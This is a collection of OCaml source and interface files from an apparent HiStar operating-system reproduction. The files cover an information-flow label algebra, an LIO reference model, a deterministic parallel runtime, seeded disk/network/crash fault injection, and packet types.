val set : t -> int64 -> int -> t
val entries : t -> (int64 * int) list
(** Non-default entries sorted by category. *)

val equal : t -> t -> bool
val compare : t -> t -> int

(** {1 Lattice operations (§2.1)} *)

val leq : t -> t -> bool
val lub : t -> t -> t
val glb : t -> t -> t

(** {1 Ownership operators} *)

val raise_j : t -> t
(** Superscript J: ⋆ ↦ J. *)

val lower_star : t -> t
(** Superscript ⋆: J ↦ ⋆. *)

val owns : t -> int64 -> bool
(** Rank ⋆ or J at the category. *)

val owned : t -> int64 list
(** Categories with an explicit ⋆ or J entry, sorted. *)

val has_star : t -> bool
val has_j : t -> bool
val is_storable : t -> bool
(** No category at J. *)

val is_object_label : t -> bool
(** No ⋆ and no J. *)

(** {1 Access checks (§2.2)} *)

val can_observe : thread:t -> obj:t -> bool
(** L_O ⊑ L_T{^J}. *)

val can_modify : thread:t -> obj:t -> bool
(** L_T ⊑ L_O ∧ L_O ⊑ L_T{^J}. *)

val can_flow : src:t -> dst:t -> bool

val taint_to_read : thread:t -> obj:t -> t
(** (L_T{^J} ⊔ L_O){^⋆}: the least label the thread must raise itself
    to in order to observe the object. *)

val to_string : t -> string
