(** Reference semantics of the lib/lio floating-label layer (LIO-style
    IFC, Stefan et al.), over the naive {!Mlabel} algebra.

    A pure state machine over (current label, clearance) pairs: taint
    joins with ⋆-absorption below the public level, the label/unlabel
    bounds, to_labeled's temporary clearance lowering, and the scope
    exit transition — the §3.5 return-gate laundering that restores
    owned-category taint to ⋆. The differential harness in
    [lib/check/noninterference.ml] runs random LIO programs against
    both this reference and the real [Histar_lio.Lio] on a live kernel
    and requires identical allow/deny decisions and identical label
    trajectories, the same way the PR-4 conformance fuzzer pins the
    kernel to {!Model}. *)

type st

val make : cur:Mlabel.t -> clear:Mlabel.t -> st
val cur : st -> Mlabel.t
val clear : st -> Mlabel.t
val equal : st -> st -> bool
val to_string : st -> string

val taint_join : Mlabel.t -> Mlabel.t -> Mlabel.t
(** Pointwise ⊔ except ⋆ (privilege) absorbs joins at or below the
    public level 1; only an explicit higher taint clobbers it. *)

val taint : st -> Mlabel.t -> (st, unit) result
(** [Error] when the joined label would exceed the clearance. *)

val label_ok : st -> Mlabel.t -> bool
(** [cur ⊑ l ⊑ clear]. *)

val unlabel : st -> Mlabel.t -> (st, unit) result
val write_ok : st -> Mlabel.t -> bool

val enter_to_labeled : st -> Mlabel.t -> (st, unit) result
(** Checks [label_ok], then lowers the clearance to the block label. *)

val enter_catch : st -> st

val exit_scope : pre:st -> keep_acquired:bool -> st -> st
(** The return-gate transition: owned-category taint laundered to ⋆,
    non-owned taint kept, clearance restored; ⋆s acquired inside the
    scope are dropped unless [keep_acquired]. *)

val to_labeled_result_ok : block_label:Mlabel.t -> final:Mlabel.t -> bool
