(* Reference semantics of the lib/lio floating-label layer, over the
   naive Mlabel algebra. Pure state transitions only — the kernel-side
   mechanics (one-shot gates, return-gate laundering) are what lib/lio
   implements; this module states what those mechanics must compute. *)

type st = { cur : Mlabel.t; clear : Mlabel.t }

let make ~cur ~clear = { cur; clear }
let cur st = st.cur
let clear st = st.clear

let equal a b = Mlabel.equal a.cur b.cur && Mlabel.equal a.clear b.clear

let to_string st =
  Printf.sprintf "cur=%s clear=%s" (Mlabel.to_string st.cur)
    (Mlabel.to_string st.clear)

(* The floating-label join: pointwise ⊔ except that ⋆ entries are
   privilege, not taint — they absorb joins at or below the public
   level 1 and are clobbered only by an explicit taint above it. *)
let taint_join cur l =
  List.fold_left
    (fun acc c ->
      if Mlabel.get l c <= Mlabel.l1 then Mlabel.set acc c Mlabel.star else acc)
    (Mlabel.lub cur l) (Mlabel.owned cur)

let taint st l =
  let next = taint_join st.cur l in
  if Mlabel.leq next st.clear then Ok { st with cur = next } else Error ()

let label_ok st l = Mlabel.leq st.cur l && Mlabel.leq l st.clear
let unlabel st l = taint st l
let write_ok st l = Mlabel.leq st.cur l

(* Scope entry: to_labeled additionally lowers the clearance to the
   block label, which is how the kernel itself ends up refusing any
   taint beyond it inside the block. *)
let enter_to_labeled st l =
  if label_ok st l then Ok { st with clear = l } else Error ()

let enter_catch st = st

(* Scope exit — the §3.5 return-gate transition lib/lio rides:
   lr = ((dropped cur)^J ⊔ pre^⋆→J)^⋆, so taint in categories the
   pre-scope label owned is laundered back to ⋆ while non-owned taint
   survives the ⊔. Unless [keep_acquired], ⋆s picked up inside the
   scope (ownership-granting gates) are dropped first. *)
let exit_scope ~pre ~keep_acquired st =
  let dropped =
    if keep_acquired then st.cur
    else
      List.fold_left
        (fun acc c ->
          if Mlabel.owns pre.cur c then acc else Mlabel.set acc c Mlabel.l1)
        st.cur (Mlabel.owned st.cur)
  in
  let lr =
    Mlabel.lower_star
      (Mlabel.lub (Mlabel.raise_j dropped) (Mlabel.raise_j pre.cur))
  in
  { cur = lr; clear = pre.clear }

(* to_labeled's result check: the block's final label must flow to the
   block label. With the clearance bound in place this can only fail
   through ⋆-free slack, but the reference states it explicitly. *)
let to_labeled_result_ok ~block_label ~final = Mlabel.leq final block_label
