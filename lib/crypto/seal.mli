(** Symmetric stream sealing: the {!Block_cipher} Feistel network in
    counter mode, XORed over the payload. Simulation-grade stand-in
    for transport encryption (the paper's webserver would use SSL,
    §6.3); it keeps labeled payloads out of packet captures on the
    shared wire. Nonces must not repeat under one key. *)

type t

val create : key:int64 -> t

val seal : t -> nonce:int64 -> string -> string
(** XOR with the keystream for [nonce]; involutive, so [seal] of a
    sealed string with the same key and nonce recovers it. *)

val unseal : t -> nonce:int64 -> string -> string
(** Alias of {!seal}. *)

val seal_tagged : t -> nonce:int64 -> string -> string
(** [seal] plus a prepended 8-byte encrypted FNV-1a tag of the
    plaintext, so tampering or a key/nonce mismatch is detected. *)

val unseal_tagged : t -> nonce:int64 -> string -> string option
(** [None] when the tag does not verify. *)
