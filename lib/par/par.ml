(* Deterministic multi-domain runtime.

   The whole reproduction rests on replayable executions — every check
   harness and the cluster driver are pure functions of their seeds —
   so parallelism has to be observationally invisible: a run at
   HISTAR_DOMAINS=8 must produce byte-identical output to the same run
   at HISTAR_DOMAINS=1. Two rules make that hold:

   - Ordered join. Tasks are submitted with stable indices and results
     are merged in submission order, never completion order. Workers
     pull indices from a shared atomic counter (so completion order is
     scheduling-dependent), but each result lands in its own slot of a
     preallocated array and the caller only looks at the array after
     every task has finished. Exceptions are joined the same way: the
     lowest-index failure is re-raised, which is exactly the failure a
     sequential left-to-right loop would have surfaced first.

   - Sealed tasks. Code running inside a pool task sees [in_task ()]
     = true and any nested [run] executes inline on the task's own
     domain. A task is therefore a single-domain computation: its
     domain-local metric shards observe all of it and nothing else,
     which is what makes per-task metric windows identical to the
     sequential run's windows.

   Scheduling-independent inputs come from {!split_seed}: each cell
   derives its RNG from its submission index, never from which domain
   or in which order it actually ran.

   The pool is a single process-global set of worker domains, created
   lazily and reused for every batch, so domain-local state (metric
   shards, enabled flags) stays bounded by [max_workers] regardless of
   how many batches run. *)

let max_workers = 15

let env_domains =
  match Stdlib.Sys.getenv_opt "HISTAR_DOMAINS" with
  | None | Some "" -> 1
  | Some s -> (
      match int_of_string_opt (String.trim s) with
      | Some n when n >= 1 -> min n (max_workers + 1)
      | Some _ | None ->
          invalid_arg (Printf.sprintf "HISTAR_DOMAINS: cannot parse %S" s))

let current = Atomic.make env_domains

let domains () = Atomic.get current

let set_domains n =
  if n < 1 then invalid_arg "Par.set_domains: need >= 1";
  Atomic.set current (min n (max_workers + 1))

(* ---------- splittable seeds ---------- *)

(* splitmix64 finalizer: full-avalanche mix so adjacent indices give
   statistically independent streams. *)
let mix64 z =
  let z =
    Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L
  in
  let z =
    Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL
  in
  Int64.logxor z (Int64.shift_right_logical z 31)

let split_seed seed i =
  mix64 (Int64.add seed (Int64.mul (Int64.of_int (i + 1)) 0x9E3779B97F4A7C15L))

(* ---------- sealed-task flag ---------- *)

let in_task_key = Domain.DLS.new_key (fun () -> ref false)
let in_task () = !(Domain.DLS.get in_task_key)

let sealed f =
  let cell = Domain.DLS.get in_task_key in
  let saved = !cell in
  cell := true;
  Fun.protect ~finally:(fun () -> cell := saved) f

(* ---------- worker pool ---------- *)

type batch = { b_run : int -> unit; b_n : int; b_next : int Atomic.t; b_done : int Atomic.t }

type pool = {
  mu : Mutex.t;
  work_cv : Condition.t;
  done_cv : Condition.t;
  mutable seq : int;  (* bumped per batch so sleeping workers can tell old from new *)
  mutable job : batch option;
  mutable shutdown : bool;
  mutable workers : unit Domain.t list;
}

let pool =
  {
    mu = Mutex.create ();
    work_cv = Condition.create ();
    done_cv = Condition.create ();
    seq = 0;
    job = None;
    shutdown = false;
    workers = [];
  }

(* Claim-and-run until the batch is drained. [b_run] never raises (the
   submitter wraps the user task); the finishing increment of [b_done]
   is the publication point for that task's result slot. *)
let drain b =
  let rec go () =
    let i = Atomic.fetch_and_add b.b_next 1 in
    if i < b.b_n then begin
      b.b_run i;
      if Atomic.fetch_and_add b.b_done 1 = b.b_n - 1 then begin
        Mutex.lock pool.mu;
        Condition.broadcast pool.done_cv;
        Mutex.unlock pool.mu
      end;
      go ()
    end
  in
  go ()

let rec worker_loop last =
  Mutex.lock pool.mu;
  while pool.seq = last && not pool.shutdown do
    Condition.wait pool.work_cv pool.mu
  done;
  if pool.shutdown then Mutex.unlock pool.mu
  else begin
    let seq = pool.seq in
    let b = pool.job in
    Mutex.unlock pool.mu;
    (match b with Some b -> drain b | None -> ());
    worker_loop seq
  end

let ensure_workers n =
  let n = min n max_workers in
  Mutex.lock pool.mu;
  let have = List.length pool.workers in
  let missing = n - have in
  if missing > 0 && not pool.shutdown then begin
    let seq = pool.seq in
    for _ = 1 to missing do
      pool.workers <- Domain.spawn (fun () -> worker_loop seq) :: pool.workers
    done
  end;
  Mutex.unlock pool.mu

let () =
  at_exit (fun () ->
      Mutex.lock pool.mu;
      pool.shutdown <- true;
      Condition.broadcast pool.work_cv;
      let ws = pool.workers in
      pool.workers <- [];
      Mutex.unlock pool.mu;
      List.iter Domain.join ws)

let submit_and_join b =
  Mutex.lock pool.mu;
  pool.seq <- pool.seq + 1;
  pool.job <- Some b;
  Condition.broadcast pool.work_cv;
  Mutex.unlock pool.mu;
  (* The submitter is a worker too. *)
  drain b;
  Mutex.lock pool.mu;
  while Atomic.get b.b_done < b.b_n do
    Condition.wait pool.done_cv pool.mu
  done;
  pool.job <- None;
  Mutex.unlock pool.mu

(* ---------- ordered join ---------- *)

(* Strict left-to-right sequential evaluation ([Array.init] order is
   unspecified): the reference schedule every parallel run must
   match. *)
let run_seq n f =
  let results = Array.make n None in
  for i = 0 to n - 1 do
    results.(i) <- Some (f i)
  done;
  Array.map Option.get results

let run ?domains:darg n f =
  let d = match darg with Some d -> d | None -> domains () in
  if n <= 0 then [||]
  else if d <= 1 || n = 1 || in_task () then run_seq n f
  else begin
    let results = Array.make n None in
    let errors = Array.make n None in
    let b_run i =
      match sealed (fun () -> f i) with
      | v -> results.(i) <- Some v
      | exception e -> errors.(i) <- Some e
    in
    ensure_workers (min d n - 1);
    submit_and_join
      { b_run; b_n = n; b_next = Atomic.make 0; b_done = Atomic.make 0 };
    (* Lowest-index failure first: the same exception a sequential
       left-to-right loop would have raised. *)
    Array.iter (function Some e -> raise e | None -> ()) errors;
    Array.map Option.get results
  end

let map_array ?domains f arr = run ?domains (Array.length arr) (fun i -> f arr.(i))

let map_list ?domains f l =
  Array.to_list (map_array ?domains f (Array.of_list l))
