(** Deterministic multi-domain runtime: a sized worker pool with an
    ordered join, sealed tasks, and splittable per-index seeds.

    Results at [HISTAR_DOMAINS=N] are byte-identical to [N=1]: tasks
    carry stable submission indices, results are merged in submission
    order (never completion order), the lowest-index exception wins,
    and per-cell RNGs derive from the index via {!split_seed}. *)

val domains : unit -> int
(** Effective domain count: [HISTAR_DOMAINS] from the environment
    (default 1), unless overridden with {!set_domains}. *)

val set_domains : int -> unit
(** Override the domain count process-wide (tests compare runs at
    several counts without re-exec). Clamped to the pool maximum. *)

val split_seed : int64 -> int -> int64
(** [split_seed seed i] is a statistically independent seed for cell
    [i] — a pure function of [seed] and the submission index, never of
    scheduling. *)

val in_task : unit -> bool
(** True while running inside a pool task (or a {!sealed} region):
    nested {!run} calls execute inline on the current domain. *)

val sealed : (unit -> 'a) -> 'a
(** Run [f] with {!in_task} forced true, so any parallelism inside is
    suppressed and the computation stays on the calling domain — the
    bench runner wraps each workload this way to keep per-workload
    metric windows single-domain. *)

val run : ?domains:int -> int -> (int -> 'a) -> 'a array
(** [run n f] evaluates [f 0 .. f (n-1)], possibly on the worker pool,
    and returns results indexed by submission order. If any task
    raised, the exception of the lowest-index failing task is
    re-raised after all tasks finished. [?domains] overrides the pool
    width for this call; [1] (or being {!in_task}) runs sequentially
    inline. *)

val map_array : ?domains:int -> ('a -> 'b) -> 'a array -> 'b array
val map_list : ?domains:int -> ('a -> 'b) -> 'a list -> 'b list
