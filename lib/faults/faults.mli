(* Seeded, deterministic, replayable fault schedules.

   A [Schedule.t] is a compact description of which faults to inject
   — disk (latent sector read errors, transient I/O errors, silent
   bit corruption) and network (loss, corruption, duplication,
   bounded reordering, delay jitter, link flaps) — plus the seed that
   makes every decision reproducible.  The consumers ([Disk], [Hub])
   take the decision plans built from a schedule and ask them on
   every media write / read / injected frame.

   Env knobs follow the HISTAR_CHECK_* discipline:
     HISTAR_FAULTS       schedule string, e.g.
                           "seed=0xc0ffee;disk:latent=0.01;net:loss=0.05,dup=0.02"
     HISTAR_FAULTS_SEED  overrides the seed of HISTAR_FAULTS *)

module Schedule : sig
  type disk = {
    latent_rate : float;
        (** probability that a media write leaves the sector
            latent-bad: subsequent reads fail persistently until the
            sector is rewritten (drive-remap semantics) *)
    transient_rate : float;
        (** probability that any single read attempt fails with a
            retryable I/O error *)
    corrupt_rate : float;
        (** probability that a media write silently flips one byte of
            the stored sector *)
  }

  type net = {
    loss_rate : float;  (** probability an injected frame is dropped *)
    corrupt_rate : float;  (** probability one byte of the frame flips *)
    duplicate_rate : float;  (** probability the frame is delivered twice *)
    reorder_rate : float;
        (** probability the frame is held back and released only after
            up to [reorder_depth] later frames *)
    reorder_depth : int;
    jitter_us : int;  (** max extra per-frame delay, uniform in [0,jitter] *)
    flap_period_ms : int;
        (** link flaps: every [flap_period_ms] the link goes down for
            the trailing [flap_down_ms]; 0 disables flaps *)
    flap_down_ms : int;
  }

  type crash = {
    crash_node : int;  (** cluster node id, consumer-interpreted *)
    at_ms : int;  (** kill the node at this virtual millisecond *)
    restart_after_ms : int option;
        (** restart this many ms after the kill; [None] = stays dead *)
  }

  type t = {
    seed : int64;
    disk : disk option;
    net : net option;
    crashes : crash list;
  }

  val default_disk : disk
  val default_net : net
  val none : t

  val mk :
    ?seed:int64 -> ?disk:disk -> ?net:net -> ?crashes:crash list -> unit -> t

  val to_string : t -> string
  (** Compact replayable form; [of_string (to_string t) = Ok t]. *)

  val of_string : string -> (t, string) result
  val of_env : unit -> t option
  (** Reads HISTAR_FAULTS / HISTAR_FAULTS_SEED; [None] when unset. *)

  val pp : Format.formatter -> t -> unit
end

(** Disk-side decision plan.  Pure state machine over a split of the
    schedule seed; all probabilistic choices are deterministic given
    the schedule. *)
module Disk_faults : sig
  type t

  type read_verdict =
    | Read_ok
    | Read_transient  (** retryable: a later attempt may succeed *)
    | Read_latent  (** persistent until the sector is rewritten *)

  val create : Schedule.t -> t option
  (** [None] when the schedule injects no disk faults. *)

  val on_media_write : t -> sector:int -> string -> string
  (** Called once per sector media write.  Returns the data actually
      stored (possibly with a silently flipped byte), clears any
      latent mark on the sector, and may mark it latent-bad. *)

  val on_read : t -> sector:int -> read_verdict
  val is_latent : t -> sector:int -> bool
  val latent_count : t -> int
end

(** Network-side decision plan, consulted by [Hub] once per injected
    frame. *)
module Net_faults : sig
  type t

  type verdict = {
    drop : [ `No | `Loss | `Flap ];
    corrupt : bool;
    duplicate : bool;
    hold : int;  (** deliver after this many subsequent frames; 0 = now *)
    jitter_ns : int64;
  }

  val create : Schedule.t -> t option
  (** [None] when the schedule injects no network faults. *)

  val link_up : t -> now_ns:int64 -> bool
  val on_frame : t -> now_ns:int64 -> verdict
  val corrupt_bytes : t -> bytes -> unit
  (** Flip one deterministic-random byte in place. *)
end

(** Node-crash plan: schedule-driven (not probabilistic) kill /
    restart events at virtual times, polled by a cluster driver
    against global virtual time. Each event fires exactly once, in
    time order (kill before restart on a tie), so a crash scenario is
    a pure function of the schedule string — the same
    [HISTAR_FAULTS="crash:node=2,at=500,restart=300"] line replays the
    same kill. Fired kills and restarts are counted in
    [faults.node_kills] / [faults.node_restarts]. *)
module Node_faults : sig
  type t

  type action =
    | Kill of int  (** take the node off the cluster, volatile state lost *)
    | Restart of int  (** recover the node from its own durable store *)

  val create : Schedule.t -> t option
  (** [None] when the schedule has no crash entries. *)

  val due : t -> now_ns:int64 -> action list
  (** Pop every event with firing time <= [now_ns], in order. *)

  val remaining : t -> int
end
