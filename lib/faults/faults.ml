module Rng = Histar_util.Rng
module Metrics = Histar_metrics.Metrics

(* Uniform float in [0,1) from the top 53 bits of a splitmix64 draw. *)
let unit_float rng =
  Int64.to_float (Int64.shift_right_logical (Rng.next64 rng) 11)
  *. (1.0 /. 9007199254740992.0)

module Schedule = struct
  type disk = {
    latent_rate : float;
    transient_rate : float;
    corrupt_rate : float;
  }

  type net = {
    loss_rate : float;
    corrupt_rate : float;
    duplicate_rate : float;
    reorder_rate : float;
    reorder_depth : int;
    jitter_us : int;
    flap_period_ms : int;
    flap_down_ms : int;
  }

  type crash = {
    crash_node : int;
    at_ms : int;
    restart_after_ms : int option;
  }

  type t = {
    seed : int64;
    disk : disk option;
    net : net option;
    crashes : crash list;
  }

  let default_disk =
    { latent_rate = 0.01; transient_rate = 0.02; corrupt_rate = 0.002 }

  let default_net =
    {
      loss_rate = 0.05;
      corrupt_rate = 0.01;
      duplicate_rate = 0.02;
      reorder_rate = 0.05;
      reorder_depth = 3;
      jitter_us = 200;
      flap_period_ms = 0;
      flap_down_ms = 0;
    }

  let none = { seed = 0x00C0FFEEL; disk = None; net = None; crashes = [] }

  let mk ?(seed = 0x00C0FFEEL) ?disk ?net ?(crashes = []) () =
    { seed; disk; net; crashes }

  let disk_fields d =
    [
      ("latent", Printf.sprintf "%g" d.latent_rate);
      ("transient", Printf.sprintf "%g" d.transient_rate);
      ("corrupt", Printf.sprintf "%g" d.corrupt_rate);
    ]

  let net_fields n =
    [
      ("loss", Printf.sprintf "%g" n.loss_rate);
      ("corrupt", Printf.sprintf "%g" n.corrupt_rate);
      ("dup", Printf.sprintf "%g" n.duplicate_rate);
      ("reorder", Printf.sprintf "%g" n.reorder_rate);
      ("depth", string_of_int n.reorder_depth);
      ("jitter", string_of_int n.jitter_us);
      ("flap_period", string_of_int n.flap_period_ms);
      ("flap_down", string_of_int n.flap_down_ms);
    ]

  let crash_fields c =
    [ ("node", string_of_int c.crash_node); ("at", string_of_int c.at_ms) ]
    @ Option.(
        to_list (map (fun r -> ("restart", string_of_int r)) c.restart_after_ms))

  let to_string t =
    let section name fields =
      name ^ ":"
      ^ String.concat "," (List.map (fun (k, v) -> k ^ "=" ^ v) fields)
    in
    String.concat ";"
      (Printf.sprintf "seed=0x%Lx" t.seed
      :: Option.(to_list (map (fun d -> section "disk" (disk_fields d)) t.disk))
      @ Option.(to_list (map (fun n -> section "net" (net_fields n)) t.net))
      @ List.map (fun c -> section "crash" (crash_fields c)) t.crashes)

  let parse_kvs s =
    (* "k=v,k=v" -> assoc list; raises Failure on malformed input *)
    String.split_on_char ',' s
    |> List.filter (fun s -> s <> "")
    |> List.map (fun kv ->
           match String.index_opt kv '=' with
           | Some i ->
               ( String.sub kv 0 i,
                 String.sub kv (i + 1) (String.length kv - i - 1) )
           | None -> failwith (Printf.sprintf "malformed field %S" kv))

  let get_f kvs key dflt =
    match List.assoc_opt key kvs with
    | None -> dflt
    | Some v -> (
        match float_of_string_opt v with
        | Some f when f >= 0.0 && f <= 1.0 -> f
        | _ -> failwith (Printf.sprintf "bad rate %s=%s" key v))

  let get_i kvs key dflt =
    match List.assoc_opt key kvs with
    | None -> dflt
    | Some v -> (
        match int_of_string_opt v with
        | Some i when i >= 0 -> i
        | _ -> failwith (Printf.sprintf "bad int %s=%s" key v))

  let disk_of_kvs kvs =
    {
      latent_rate = get_f kvs "latent" default_disk.latent_rate;
      transient_rate = get_f kvs "transient" default_disk.transient_rate;
      corrupt_rate = get_f kvs "corrupt" default_disk.corrupt_rate;
    }

  let net_of_kvs kvs =
    {
      loss_rate = get_f kvs "loss" default_net.loss_rate;
      corrupt_rate = get_f kvs "corrupt" default_net.corrupt_rate;
      duplicate_rate = get_f kvs "dup" default_net.duplicate_rate;
      reorder_rate = get_f kvs "reorder" default_net.reorder_rate;
      reorder_depth = get_i kvs "depth" default_net.reorder_depth;
      jitter_us = get_i kvs "jitter" default_net.jitter_us;
      flap_period_ms = get_i kvs "flap_period" default_net.flap_period_ms;
      flap_down_ms = get_i kvs "flap_down" default_net.flap_down_ms;
    }

  let crash_of_kvs kvs =
    let req key =
      match List.assoc_opt key kvs with
      | None -> failwith (Printf.sprintf "crash section missing %s" key)
      | Some v -> (
          match int_of_string_opt v with
          | Some i when i >= 0 -> i
          | _ -> failwith (Printf.sprintf "bad int %s=%s" key v))
    in
    {
      crash_node = req "node";
      at_ms = req "at";
      restart_after_ms =
        (match List.assoc_opt "restart" kvs with
        | None -> None
        | Some _ -> Some (req "restart"));
    }

  let of_string s =
    try
      let t =
        List.fold_left
          (fun t section ->
            if section = "" then t
            else
              match String.index_opt section ':' with
              | Some i -> (
                  let name = String.sub section 0 i in
                  let rest =
                    String.sub section (i + 1) (String.length section - i - 1)
                  in
                  let kvs = parse_kvs rest in
                  match name with
                  | "disk" -> { t with disk = Some (disk_of_kvs kvs) }
                  | "net" -> { t with net = Some (net_of_kvs kvs) }
                  | "crash" ->
                      (* multiple crash sections accumulate in order *)
                      { t with crashes = t.crashes @ [ crash_of_kvs kvs ] }
                  | _ -> failwith (Printf.sprintf "unknown section %S" name))
              | None -> (
                  match parse_kvs section with
                  | [ ("seed", v) ] -> (
                      match Int64.of_string_opt v with
                      | Some seed -> { t with seed }
                      | None -> failwith (Printf.sprintf "bad seed %S" v))
                  | _ ->
                      failwith (Printf.sprintf "unknown section %S" section)))
          none
          (String.split_on_char ';' (String.trim s))
      in
      Ok t
    with Failure msg -> Error msg

  let of_env () =
    match Sys.getenv_opt "HISTAR_FAULTS" with
    | None | Some "" -> None
    | Some s -> (
        match of_string s with
        | Error msg ->
            failwith (Printf.sprintf "HISTAR_FAULTS: %s (in %S)" msg s)
        | Ok t -> (
            match Sys.getenv_opt "HISTAR_FAULTS_SEED" with
            | None | Some "" -> Some t
            | Some sv -> (
                match Int64.of_string_opt sv with
                | Some seed -> Some { t with seed }
                | None ->
                    failwith
                      (Printf.sprintf "HISTAR_FAULTS_SEED: bad seed %S" sv))))

  let pp fmt t = Format.pp_print_string fmt (to_string t)
end

module Disk_faults = struct
  type read_verdict = Read_ok | Read_transient | Read_latent

  type t = {
    params : Schedule.disk;
    rng : Rng.t;
    latent : (int, unit) Hashtbl.t;
    c_transient : Metrics.Counter.t;
    c_latent_marked : Metrics.Counter.t;
    c_latent_reads : Metrics.Counter.t;
    c_corrupt_writes : Metrics.Counter.t;
  }

  let create (s : Schedule.t) =
    match s.disk with
    | None -> None
    | Some params ->
        (* Domain-separate the disk stream from the net stream so the
           two plans never share draws. *)
        Some
          {
            params;
            rng = Rng.create (Int64.logxor s.seed 0xD15C_FA17L);
            latent = Hashtbl.create 64;
            c_transient = Metrics.counter "faults.disk_transient";
            c_latent_marked = Metrics.counter "faults.disk_latent_marked";
            c_latent_reads = Metrics.counter "faults.disk_latent_reads";
            c_corrupt_writes = Metrics.counter "faults.disk_corrupt_writes";
          }

  let flip_byte rng data =
    if String.length data = 0 then data
    else
      let b = Bytes.of_string data in
      let i = Rng.int rng (Bytes.length b) in
      let mask = 1 lsl Rng.int rng 8 in
      Bytes.set b i (Char.chr (Char.code (Bytes.get b i) lxor mask));
      Bytes.unsafe_to_string b

  let on_media_write t ~sector data =
    (* A write always clears the latent mark: the drive remaps the
       sector, so freshly written data is readable again. *)
    Hashtbl.remove t.latent sector;
    let data =
      if unit_float t.rng < t.params.corrupt_rate then (
        Metrics.Counter.incr t.c_corrupt_writes;
        flip_byte t.rng data)
      else data
    in
    if unit_float t.rng < t.params.latent_rate then (
      Hashtbl.replace t.latent sector ();
      Metrics.Counter.incr t.c_latent_marked);
    data

  let on_read t ~sector =
    if Hashtbl.mem t.latent sector then (
      Metrics.Counter.incr t.c_latent_reads;
      Read_latent)
    else if unit_float t.rng < t.params.transient_rate then (
      Metrics.Counter.incr t.c_transient;
      Read_transient)
    else Read_ok

  let is_latent t ~sector = Hashtbl.mem t.latent sector
  let latent_count t = Hashtbl.length t.latent
end

module Net_faults = struct
  type verdict = {
    drop : [ `No | `Loss | `Flap ];
    corrupt : bool;
    duplicate : bool;
    hold : int;
    jitter_ns : int64;
  }

  type t = {
    params : Schedule.net;
    rng : Rng.t;
    c_lost : Metrics.Counter.t;
    c_flap : Metrics.Counter.t;
    c_corrupt : Metrics.Counter.t;
    c_dup : Metrics.Counter.t;
    c_held : Metrics.Counter.t;
  }

  let create (s : Schedule.t) =
    match s.net with
    | None -> None
    | Some params ->
        Some
          {
            params;
            rng = Rng.create (Int64.logxor s.seed 0x4E7F_A17L);
            c_lost = Metrics.counter "faults.net_lost";
            c_flap = Metrics.counter "faults.net_flap_drops";
            c_corrupt = Metrics.counter "faults.net_corrupt";
            c_dup = Metrics.counter "faults.net_duplicated";
            c_held = Metrics.counter "faults.net_held";
          }

  let link_up t ~now_ns =
    if t.params.flap_period_ms <= 0 || t.params.flap_down_ms <= 0 then true
    else
      let period = Int64.mul (Int64.of_int t.params.flap_period_ms) 1_000_000L in
      let down = Int64.mul (Int64.of_int t.params.flap_down_ms) 1_000_000L in
      let phase = Int64.rem now_ns period in
      (* the link is down for the trailing flap_down of each period,
         so time 0 starts with the link up *)
      Int64.compare phase (Int64.sub period down) < 0

  let on_frame t ~now_ns =
    let p = t.params in
    if not (link_up t ~now_ns) then (
      Metrics.Counter.incr t.c_flap;
      { drop = `Flap; corrupt = false; duplicate = false; hold = 0; jitter_ns = 0L })
    else if unit_float t.rng < p.loss_rate then (
      Metrics.Counter.incr t.c_lost;
      { drop = `Loss; corrupt = false; duplicate = false; hold = 0; jitter_ns = 0L })
    else
      let corrupt = unit_float t.rng < p.corrupt_rate in
      if corrupt then Metrics.Counter.incr t.c_corrupt;
      let duplicate = unit_float t.rng < p.duplicate_rate in
      if duplicate then Metrics.Counter.incr t.c_dup;
      let hold =
        if p.reorder_depth > 0 && unit_float t.rng < p.reorder_rate then (
          Metrics.Counter.incr t.c_held;
          1 + Rng.int t.rng p.reorder_depth)
        else 0
      in
      let jitter_ns =
        if p.jitter_us > 0 then
          Int64.mul (Int64.of_int (Rng.int t.rng (p.jitter_us + 1))) 1_000L
        else 0L
      in
      { drop = `No; corrupt; duplicate; hold; jitter_ns }

  let corrupt_bytes t b =
    if Bytes.length b > 0 then begin
      let i = Rng.int t.rng (Bytes.length b) in
      let mask = 1 lsl Rng.int t.rng 8 in
      Bytes.set b i (Char.chr (Char.code (Bytes.get b i) lxor mask))
    end
end

module Node_faults = struct
  (* Node-crash plan: unlike the probabilistic disk/net plans this one
     is purely schedule-driven — a crash entry names a node, the
     virtual millisecond it dies, and optionally how many milliseconds
     later it restarts. The driver polls [due] against global virtual
     time; each event fires exactly once, in time order (kill before
     restart on a tie, list order after that), so a run is a pure
     function of the schedule string. *)

  type action = Kill of int | Restart of int

  type t = {
    mutable pending : (int64 * int * action) list;
        (* (virtual ns, tiebreak rank, action), sorted *)
    c_kills : Metrics.Counter.t;
    c_restarts : Metrics.Counter.t;
  }

  let ns_of_ms ms = Int64.mul (Int64.of_int ms) 1_000_000L

  let create (s : Schedule.t) =
    match s.crashes with
    | [] -> None
    | crashes ->
        let events =
          List.concat
            (List.mapi
               (fun i (c : Schedule.crash) ->
                 let kill = (ns_of_ms c.at_ms, (2 * i) + 0, Kill c.crash_node) in
                 match c.restart_after_ms with
                 | None -> [ kill ]
                 | Some r ->
                     [
                       kill;
                       ( ns_of_ms (c.at_ms + r),
                         (2 * i) + 1,
                         Restart c.crash_node );
                     ])
               crashes)
        in
        Some
          {
            pending =
              List.sort
                (fun (t1, r1, _) (t2, r2, _) ->
                  match Int64.compare t1 t2 with 0 -> compare r1 r2 | c -> c)
                events;
            c_kills = Metrics.counter "faults.node_kills";
            c_restarts = Metrics.counter "faults.node_restarts";
          }

  let due t ~now_ns =
    let rec take acc = function
      | (at, _, a) :: rest when Int64.compare at now_ns <= 0 ->
          (match a with
          | Kill _ -> Metrics.Counter.incr t.c_kills
          | Restart _ -> Metrics.Counter.incr t.c_restarts);
          take (a :: acc) rest
      | rest ->
          t.pending <- rest;
          List.rev acc
    in
    take [] t.pending

  let remaining t = List.length t.pending
end
