module Codec = Histar_util.Codec

type tcp_flags = { syn : bool; ack : bool; fin : bool; rst : bool }

type tcp = {
  src_port : Addr.port;
  dst_port : Addr.port;
  seq : int;
  ack_no : int;
  flags : tcp_flags;
  window : int;
  payload : string;
}

type udp = { usrc_port : Addr.port; udst_port : Addr.port; upayload : string }
type proto = Tcp of tcp | Udp of udp
type ip_packet = { src_ip : Addr.ip; dst_ip : Addr.ip; proto : proto }
type frame = { src_mac : string; dst_mac : string; ip : ip_packet }

let no_flags = { syn = false; ack = false; fin = false; rst = false }

